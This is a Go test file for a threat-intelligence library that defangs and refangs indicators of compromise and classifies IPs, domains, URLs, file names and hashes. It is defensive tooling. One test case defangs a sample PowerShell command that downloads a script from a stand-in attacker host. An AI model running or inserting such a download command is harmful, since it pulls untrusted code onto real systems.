package indicator

import (
	"strings"
	"testing"
)

func TestRefangUndoesWhatPeopleDo(t *testing.T) {
	cases := []struct{ name, text, want string }{
		{"nothing to do", "evil.example", "evil.example"},
		{"square brackets", "evil[.]example", "evil.example"},
		{"round and curly brackets", "a(.)b{.}example", "a.b.example"},
		{"words", "a[dot]b(dot)c{DOT}example", "a.b.c.example"},
		{"blanks inside and outside", "a[ . ]b [.] example", "a.b.example"},
		{"halves", "a[.b.]example", "a.b.example"},
		{"an escaped dot", `evil\.example`, "evil.example"},
		{"schemes", "hxxp://a hXXps://b h**p://c fxp://d hxtp://e", "http://a https://b http://c ftp://d http://e"},
		{"colons", "hxxp[:]//a[:]80 hxxps[://]b", "http://a:80 https://b"},
		{"at signs", "bob[at]evil[.]example bob(@)b.example", "bob@evil.example bob@b.example"},
		{"invisible characters", "ev\u200bi\u00adl.ex\ufeffample", "evil.example"},
		{"wide dots", "evil．example evil。example", "evil.example evil.example"},

		{"copies of a browser stay", "setup[1].exe", "setup[1].exe"},
		{"parentheses of a sentence stay", "see (this).", "see (this)."},
		{"a smiley stays", "fine (:)", "fine (:)"},
		{"a folder with a dot stays", `C:\a\ .b`, `C:\a\ .b`},
		{"a word with xx stays", "foxxp boxxp://", "foxxp boxxp://"},
		{"at in brackets alone stays", "meet (at) noon", "meet (at) noon"},
		{"an ideographic full stop ends a sentence", "evil.example。再见", "evil.example。再见"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := Refang(c.text); got != c.want {
				t.Errorf("Refang(%q) = %q, want %q", c.text, got, c.want)
			}
		})
	}
}

func TestDefangedValuesCannotBeClicked(t *testing.T) {
	cases := []struct{ typed, want string }{
		{"ip=203.0.113.66", "203.0.113[.]66"},
		{"ip=203.0.113.0/24", "203.0.113[.]0/24"},
		{"ip=2001:db8::c", "2001[:]db8::c"},
		{"dns=a.evil.example", "a[.]evil[.]example"},
		{"dns=*.evil.example", "*[.]evil[.]example"},
		{"dns=*evil.example", "*evil[.]example"},
		{"dns=https://evil.example/a.php?u=http://b.example", "hxxps://evil[.]example/a[.]php?u=hxxp://b[.]example"},
		{"dns=ftp://203.0.113.66/x", "fxp://203[.]0[.]113[.]66/x"},
		{"file=powershell.exe", "powershell.exe"},
		{"file=invoice.zip", "invoice[.]zip"},
		{"file=evil.com.exe", "evil[.]com[.]exe"},
		{"file=d41d8cd98f00b204e9800998ecf8427e", "d41d8cd98f00b204e9800998ecf8427e"},
	}
	for _, c := range cases {
		t.Run(c.typed, func(t *testing.T) {
			key, value, _ := strings.Cut(c.typed, "=")
			i, no := TypeAs(key, value)
			if no != nil {
				t.Fatal(no.Sentence)
			}
			if got := i.Defanged(); got != c.want {
				t.Errorf("got %q, want %q", got, c.want)
			}
			if back := Refang(i.Defanged()); back != i.Value {
				t.Errorf("Refang gives %q, not %q", back, i.Value)
			}
			if back := Refang(Defang(i.Value)); back != i.Value {
				t.Errorf("Refang(Defang) gives %q, not %q", back, i.Value)
			}
		})
	}
}

func TestDefangTextLeavesNoLinkAndNoOtherMark(t *testing.T) {
	cases := []struct{ name, text, want string }{
		{"a command line", `powershell.exe -c "iwr http://evil.com/a.ps1"`, `powershell.exe -c "iwr hxxp://evil[.]com/a.ps1"`},
		{"a sentence", "see evil.com. Then 203.0.113.66:443, and 2001:db8::1", "see evil[.]com. Then 203.0.113[.]66:443, and 2001[:]db8::1"},
		{"an e-mail address", "bob@evil.com", "bob@evil[.]com"},
		{"a file that looks like a domain", "README.md and a.zip", "README[.]md and a[.]zip"},
		{"a name of tests and companies", "evil.example srv.corp", "evil[.]example srv[.]corp"},
		{"another alphabet", "пример.рф", "пример[.]рф"},
		{"capitals", "HTTPS://EVIL.COM", "hxxps://EVIL[.]COM"},
		{"what is defanged already", "hxxp://evil[.]com", "hxxp://evil[.]com"},
		{"versions, times and paths stay", `10.0.19041 at 12:30:45 in C:\Windows\cmd.exe`, `10.0.19041 at 12:30:45 in C:\Windows\cmd.exe`},
		{"colons stay", "a:b: c::d :", "a:b: c::d :"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := DefangText(c.text); got != c.want {
				t.Errorf("DefangText(%q)\n got %q\nwant %q", c.text, got, c.want)
			}
		})
	}
}

func TestTypeTellsBareValuesApart(t *testing.T) {
	cases := []struct {
		text string
		want Kind
	}{
		{"203.0.113[.]66", KindIP},
		{"203.0.113.66:443", KindIP},
		{"2001:db8::c", KindIP},
		{"203.0.113.0/24", KindCIDR},
		{"evil.example", KindDomain},
		{"server01.contoso.corp", KindDomain},
		{"evil.com", KindDomain},
		{"fileserver.corp:8080", KindDomain},
		{"*.evil.example", KindDomain},
		{"*evil.example", KindSuffix},
		{"evil.example/a", KindURL},
		{"203.0.113.66/gate.php", KindURL},
		{"http://fileserver/a", KindURL},
		{"powershell.exe", KindFile},
		{`C:\Windows\Temp\a b.dll`, KindFile},
		{"d41d8cd98f00b204e9800998ecf8427e", KindMD5},
		{"da39a3ee5e6b4b0d3255bfef95601890afd80709", KindSHA1},
		{"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", KindSHA256},

		{"", ""},
		{"evil", ""},
		{"fileserver:8080", ""},
		{"bob@evil.example", ""},
		{"script.sh", ""},
		{"203.0.113.666", ""},
		{"com", ""},
		{"1.2.3", ""},
		{"d41d8cd98f00b204e9800998ecf842", ""},
	}
	for _, c := range cases {
		t.Run(c.text, func(t *testing.T) {
			ind, no := Type(c.text)
			if ind.Kind != c.want || (no == nil) != (c.want != "") {
				t.Errorf("Type(%q) = %+v, %v; want kind %q", c.text, ind, no, c.want)
			}
		})
	}
}
